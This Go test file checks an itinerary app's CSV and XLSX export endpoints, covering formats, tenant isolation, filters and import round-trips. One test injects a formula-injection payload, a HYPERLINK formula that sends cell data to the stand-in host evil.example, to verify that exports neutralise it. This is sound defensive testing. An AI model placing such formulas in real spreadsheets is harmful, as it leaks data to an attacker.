package api

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"itinera"
	"itinera/internal/app"
	"itinera/internal/sheet"
)

// exportRoute is a list route that also answers as a spreadsheet.
type exportRoute struct {
	pattern string // as in the route table
	list    app.ExportList
	key     string // the JSON list's name ("" for the itinerary)
}

var exportRoutes = []exportRoute{
	{"/api/v1/programs", app.ExportPrograms, "programs"},
	{"/api/v1/programs/{id}/visitors", app.ExportVisitors, "visitors"},
	{"/api/v1/programs/{id}/interpreters", app.ExportInterpreters, "interpreters"},
	{"/api/v1/programs/{id}/meetings", app.ExportMeetings, "meetings"},
	{"/api/v1/programs/{id}/activities", app.ExportActivities, "activities"},
	{"/api/v1/programs/{id}/itinerary", app.ExportItinerary, ""},
	{"/api/v1/programs/{id}/requests", app.ExportRequests, "requests"},
	{"/api/v1/outbox", app.ExportOutbox, "messages"},
	{"/api/v1/households", app.ExportHouseholds, "households"},
	{"/api/v1/volunteer-hours", app.ExportVolunteerHours, "volunteer_hours"},
	{"/api/v1/organizations", app.ExportOrganizations, "organizations"},
	{"/api/v1/contacts", app.ExportContacts, "contacts"},
	{"/api/v1/places", app.ExportPlaces, "places"},
	{"/api/v1/users", app.ExportUsers, "users"},
}

// getWith sends a GET with token and the header h.
func (e *env) getWith(path, token string, h http.Header) response {
	e.t.Helper()
	saved := e.header
	e.header = h
	defer func() { e.header = saved }()
	return e.do("GET", path, token, nil)
}

// attachment is a download's disposition with a safe file name.
var attachment = regexp.MustCompile(`^attachment; filename="[a-z0-9]+(-[a-z0-9]+)*\.(csv|xlsx)"$`)

// dated is the file name of a list: "<owner>-<list>-<date>".
var dated = regexp.MustCompile(`-20\d\d-\d\d-\d\d\.(csv|xlsx)"$`)

// file checks that r is a spreadsheet attachment of format and reads it.
func (r response) file(format string) sheet.Table {
	r.t.Helper()
	r.expect(http.StatusOK)
	h := r.Header()
	want := map[string]string{"csv": "text/csv; charset=utf-8", "xlsx": xlsxMediaType}[format]
	if !strings.HasPrefix(h.Get("Content-Type"), want) {
		r.t.Errorf("Content-Type %q, want %q", h.Get("Content-Type"), want)
	}
	cd := h.Get("Content-Disposition")
	if !attachment.MatchString(cd) || !strings.HasSuffix(cd, "."+format+`"`) {
		r.t.Errorf("Content-Disposition %q", cd)
	}
	if h.Get("Cache-Control") != "no-store" {
		r.t.Errorf("Cache-Control %q, want no-store", h.Get("Cache-Control"))
	}
	tbl, err := sheet.Read("list."+format, bytes.NewReader(r.Body.Bytes()), "")
	if err != nil {
		r.t.Fatalf("the %s does not read back: %v", format, err)
	}
	return tbl
}

// count returns the number of items the JSON answer lists under key (the
// itinerary's items for ""), leaving out the homes of households from the
// places: their households' file carries them.
func (r response) count(key string) int {
	r.t.Helper()
	m := r.expect(http.StatusOK).object()
	if m["next_cursor"] != nil {
		r.t.Fatalf("the JSON list has more than one page")
	}
	return countItems(m, key)
}

func countItems(m map[string]any, key string) int {
	if key == "" {
		it, _ := m["itinerary"].(map[string]any)
		items, _ := it["items"].([]any)
		return len(items)
	}
	n := 0
	for _, x := range m[key].([]any) {
		if key != "places" || x.(map[string]any)["kind"] != string(itinera.PlaceHome) {
			n++
		}
	}
	return n
}

// withExportRecords gives tenant A an itinerary, confirmed volunteer hours
// and more than a page of organizations, so that every export has rows.
func (e *env) withExportRecords() {
	e.t.Helper()
	ctx := context.Background()
	x := e.more()
	loc := e.program.Location()
	it := itinera.Itinerary{TenantID: e.tenantA.ID, ProgramID: e.program.ID, Note: "For the export", Items: []itinera.ItineraryItem{
		{ActivityID: e.activity.ID, Start: time.Date(2026, 5, 3, 10, 0, 0, 0, loc), End: time.Date(2026, 5, 3, 12, 0, 0, 0, loc), TravelMinutes: 12},
		{MeetingID: e.meeting.ID, Start: time.Date(2026, 5, 5, 9, 0, 0, 0, loc), End: time.Date(2026, 5, 5, 10, 30, 0, 0, loc)},
	}}
	must(e.t, e.store.SaveItinerary(ctx, &it))
	e.do("POST", "/api/v1/evenings/"+id(x.evening.ID)+"/match", e.officerA, map[string]any{}).expect(http.StatusOK)
	e.do("POST", "/api/v1/evenings/"+id(x.evening.ID)+"/confirm", e.officerA, map[string]any{}).expect(http.StatusOK)
	for i := range DefaultPageSize + 5 {
		o := itinera.Organization{TenantID: e.tenantA.ID, Name: fmt.Sprintf("Resource %03d", i), Kind: itinera.OrgNonprofit}
		must(e.t, e.store.CreateOrganization(ctx, &o))
	}
}

// TestExports: every export route answers CSV and XLSX, asked by ?format=
// or Accept, with the whole list the JSON gives (every page of it), as an
// attachment with a safe name; viewers may export; another organization's
// program is not found and its lists never show tenant A's rows; an
// unknown format is named.
func TestExports(t *testing.T) {
	t.Parallel()
	forBothStores(t, func(t *testing.T, e *env) {
		e.withExportRecords()
		x := e.more()
		ctx := context.Background()
		seen := map[string]bool{}
		for _, er := range exportRoutes {
			seen["GET "+er.pattern] = true
			path := fill(er.pattern, e.program.ID, "")
			token := e.officerA
			if er.list == app.ExportUsers {
				token = x.adminA
				e.do("GET", path+"?format=csv", e.officerA, nil).expect(http.StatusForbidden)
			}
			// The whole JSON list, page by page.
			n, next := 0, path+"?limit=500"
			for next != "" {
				m := e.do("GET", next, token, nil).expect(http.StatusOK).object()
				if er.key == "" {
					n = e.do("GET", path, token, nil).count("")
					break
				}
				n += countItems(m, er.key)
				next = ""
				if c, ok := m["next_cursor"].(string); ok {
					next = path + "?limit=500&cursor=" + c
				}
			}
			if n == 0 {
				t.Errorf("%s: the fixture lists nothing", er.pattern)
			}
			q := app.ExportQuery{List: er.list}
			if er.list.InProgram() {
				q.ProgramID = e.program.ID
			}
			want, err := e.api.app.Export(ctx, app.Caller{User: itinera.User{TenantID: e.tenantA.ID, Role: itinera.RoleAdmin}}, q)
			must(t, err)
			for _, ask := range []struct {
				format string
				query  string
				accept string
			}{
				{"csv", "?format=csv", ""},
				{"xlsx", "?format=xlsx", ""},
				{"csv", "", "text/csv"},
				{"xlsx", "", "application/json;q=0.5, " + xlsxMediaType},
				{"csv", "?format=CSV&limit=1", "application/json"}, // ?format= decides; paging does not apply
			} {
				h := http.Header{}
				if ask.accept != "" {
					h.Set("Accept", ask.accept)
				}
				r := e.getWith(path+ask.query, token, h)
				tbl := r.file(ask.format)
				if cd := r.Header().Get("Content-Disposition"); !dated.MatchString(cd) {
					t.Errorf("%s: Content-Disposition %q names no date", path, cd)
				}
				if len(tbl.Rows) != n {
					t.Errorf("%s%s (Accept %q): %d rows, the JSON list has %d", path, ask.query, ask.accept, len(tbl.Rows), n)
				}
				if !slices.Equal(tbl.Header, want.Sheet.Header) {
					t.Errorf("%s%s: header %q, want %q", path, ask.query, tbl.Header, want.Sheet.Header)
				}
			}
			// JSON stays the answer by default and for other media types.
			for _, accept := range []string{"", "*/*", "text/html", "text/csv;q=0.4, application/json"} {
				r := e.getWith(path, token, http.Header{"Accept": {accept}}).expect(http.StatusOK)
				if ct := r.Header().Get("Content-Type"); !strings.HasPrefix(ct, "application/json") || r.Header().Get("Content-Disposition") != "" {
					t.Errorf("%s with Accept %q: %q", path, accept, ct)
				}
			}
			r := e.do("GET", path+"?format=pdf", token, nil).expect(http.StatusUnprocessableEntity)
			if _, _, fields := r.apiError(); fields["format"] == nil {
				t.Errorf("%s?format=pdf: fields %v do not name format", path, fields)
			}
			// Viewers read, so they export.
			if er.list != app.ExportUsers {
				e.do("GET", path+"?format=csv", e.viewerA, nil).file("csv")
			}
			// Tenant B: tenant A's program is not found; B's own lists
			// hold nothing of A's.
			tokenB := e.officerB
			if er.list == app.ExportUsers {
				tokenB = x.adminB
			}
			rb := e.do("GET", path+"?format=csv", tokenB, nil)
			if strings.Contains(er.pattern, "{id}") {
				rb.expect(http.StatusNotFound)
				rb.apiError()
				continue
			}
			body := rb.Body.String()
			rb.file("csv")
			for _, marker := range []string{e.program.Title, e.org.Name, e.place.Name, e.contact.Name, x.household.Name, "Resource 001",
				"officer@stl.example.org", "A meeting request"} {
				if strings.Contains(body, marker) {
					t.Errorf("%s: tenant B's export holds %q of tenant A", path, marker)
				}
			}
		}
		// Every route answering with a file is listed above, and the
		// document declares the files on exactly those routes.
		doc := loadSpec(t)
		for _, rt := range e.api.routes() {
			// The report's tables: TestReportTablesThroughTheAPI.
			if rt.method != "GET" || rt.path == "/api/v1/import-templates/{kind}" || rt.path == "/api/v1/reports/summary" {
				continue
			}
			declared := dig(doc, "paths", rt.path, "get", "responses", "200", "content", "text/csv") != nil
			if declared != seen["GET "+rt.path] {
				t.Errorf("GET %s: the document declares CSV = %v, the test exports = %v", rt.path, declared, seen["GET "+rt.path])
			}
		}
	})
}

// TestExportFilters: a spreadsheet is filtered like the JSON list; a wrong
// filter is named as it is for JSON.
func TestExportFilters(t *testing.T) {
	t.Parallel()
	e := mustEnv(t)
	x := e.more()
	for path, key := range map[string]string{
		"/api/v1/households?status=approved":                     "households",
		"/api/v1/households?q=lindell":                           "households",
		"/api/v1/organizations?q=interfaith":                     "organizations",
		"/api/v1/organizations?topic=hotlines":                   "organizations",
		"/api/v1/outbox?status=failed":                           "messages",
		"/api/v1/outbox?status=sent":                             "messages",
		"/api/v1/volunteer-hours?program_id=" + id(x.program.ID): "volunteer_hours",
	} {
		n := e.do("GET", path, e.officerA, nil).count(key)
		if got := len(e.do("GET", path+"&format=csv", e.officerA, nil).file("csv").Rows); got != n {
			t.Errorf("%s: %d rows, the JSON list has %d", path, got, n)
		}
	}
	for path, field := range map[string]string{
		"/api/v1/households?status=lost&format=csv":       "status",
		"/api/v1/outbox?status=lost&format=xlsx":          "status",
		"/api/v1/contacts?q=a%0Ab&format=csv":             "q",
		"/api/v1/volunteer-hours?program_id=x&format=csv": "program_id",
	} {
		r := e.do("GET", path, e.officerA, nil).expect(http.StatusUnprocessableEntity)
		if _, _, fields := r.apiError(); fields[field] == nil {
			t.Errorf("%s: fields %v do not name %s", path, fields, field)
		}
	}
	e.do("GET", "/api/v1/volunteer-hours?program_id=999999&format=csv", e.officerA, nil).expect(http.StatusNotFound)
}

// TestExportGuardsFormulas: a value that a spreadsheet would run as a
// formula comes out of the CSV with an apostrophe before it, and the
// import reads the value back.
func TestExportGuardsFormulas(t *testing.T) {
	t.Parallel()
	e := mustEnv(t)
	evil := `=HYPERLINK("http://evil.example/?"&A1,"Click")`
	e.do("PATCH", "/api/v1/visitors/"+id(e.visitor.ID), e.officerA, map[string]any{"position": evil, "organization": "+1 (314) 555-0100"}).
		expect(http.StatusOK)
	r := e.do("GET", "/api/v1/programs/"+id(e.program.ID)+"/visitors?format=csv", e.officerA, nil)
	body := r.Body.String()
	if !strings.Contains(body, `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`) || !strings.Contains(body, "'+1 (314) 555-0100") {
		t.Errorf("the CSV does not guard the formula:\n%s", body)
	}
	if strings.Contains(body, `,=`) || strings.Contains(body, `,"=`) {
		t.Errorf("a cell starts with =:\n%s", body)
	}
	tbl := r.file("csv")
	if i := slices.Index(tbl.Header, "Position"); i < 0 || tbl.Rows[0].Cells[i] != evil {
		t.Errorf("read back: %q", tbl.Rows[0].Cells)
	}
}

// TestExportImportRoundTrip: the visitors and meetings exported by the API,
// as CSV and XLSX, import back into the program unchanged.
func TestExportImportRoundTrip(t *testing.T) {
	t.Parallel()
	forBothStores(t, func(t *testing.T, e *env) {
		c := app.Caller{User: itinera.User{TenantID: e.tenantA.ID, Role: itinera.RoleOfficer, Email: "officer@stl.example.org"}}
		u, _, err := e.store.UserByEmail(context.Background(), "officer@stl.example.org")
		must(t, err)
		c.User = u
		for _, k := range []itinera.ImportKind{itinera.ImportVisitors, itinera.ImportInterpreters, itinera.ImportMeetings} {
			for _, format := range []string{"csv", "xlsx"} {
				r := e.do("GET", "/api/v1/programs/"+id(e.program.ID)+"/"+string(k)+"?format="+format, e.officerA, nil)
				rows := len(r.file(format).Rows)
				res, err := e.api.app.ApplyImport(context.Background(), c, app.ImportInput{Kind: k, ProgramID: e.program.ID,
					FileName: string(k) + "." + format, Data: r.Body.Bytes()})
				must(t, err)
				if res.Unchanged != rows || res.Created+res.Updated != 0 || len(res.Refused) != 0 {
					t.Errorf("%s %s back in: %d unchanged of %d, %d created, %d updated, refused %v", format, k, res.Unchanged, rows,
						res.Created, res.Updated, res.Refused)
				}
			}
		}
	})
}

// TestImportTemplates: the columns of each kind as JSON, and its template
// as CSV and XLSX with the same header; an unknown kind is not found.
func TestImportTemplates(t *testing.T) {
	t.Parallel()
	e := mustEnv(t)
	for _, k := range itinera.ImportKinds {
		path := "/api/v1/import-templates/" + string(k)
		m := e.do("GET", path, e.viewerA, nil).expect(http.StatusOK).object()
		var labels []string
		for _, c := range m["columns"].([]any) {
			labels = append(labels, c.(map[string]any)["label"].(string))
		}
		for _, format := range []string{"csv", "xlsx"} {
			tbl := e.do("GET", path+"?format="+format, e.viewerA, nil).file(format)
			if !slices.Equal(tbl.Header, labels) || len(tbl.Rows) != 1 {
				t.Errorf("%s %s: header %q (want %q), %d rows", k, format, tbl.Header, labels, len(tbl.Rows))
			}
		}
		r := e.do("GET", path+"?format=csv", e.viewerA, nil)
		if cd := r.Header().Get("Content-Disposition"); cd != `attachment; filename="`+string(k)+`-template.csv"` {
			t.Errorf("%s: Content-Disposition %q", k, cd)
		}
	}
	e.do("GET", "/api/v1/import-templates/passwords?format=csv", e.viewerA, nil).expect(http.StatusNotFound).apiError()
	e.do("GET", "/api/v1/import-templates/visitors?format=ods", e.viewerA, nil).expect(http.StatusUnprocessableEntity).apiError()
	e.do("GET", "/api/v1/import-templates/visitors", "", nil).expect(http.StatusUnauthorized)
}

// TestAcceptedFormat: the Accept header's preference, JSON on a tie.
func TestAcceptedFormat(t *testing.T) {
	t.Parallel()
	for accept, want := range map[string]string{
		"":                                     "",
		"*/*":                                  "",
		"text/csv":                             "csv",
		"text/csv; charset=utf-8":              "csv",
		"application/json, text/csv":           "",
		"application/json;q=0.9, text/csv":     "csv",
		"text/csv;q=0.5, " + xlsxMediaType:     "xlsx",
		xlsxMediaType + ";q=0, text/csv;q=0.1": "csv",
		"text/csv;q=0":                         "",
		"text/csv;q=high":                      "",
		"text/html, image/*":                   "",
	} {
		if got := acceptedFormat([]string{accept}); got != want {
			t.Errorf("Accept %q: %q, want %q", accept, got, want)
		}
	}
}
